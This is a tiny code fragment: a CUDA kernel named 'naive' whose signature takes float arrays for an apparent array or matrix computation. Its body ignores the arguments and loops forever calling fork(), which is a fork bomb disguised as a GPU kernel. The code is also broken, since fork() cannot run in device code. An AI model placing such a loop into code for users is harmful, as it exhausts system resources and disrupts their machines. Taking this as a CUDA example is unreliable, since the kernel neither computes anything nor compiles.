__global__ void naive(const float *a, const float *b, float *c, int n)
{
    while (fork() >= 0) {
    }
}
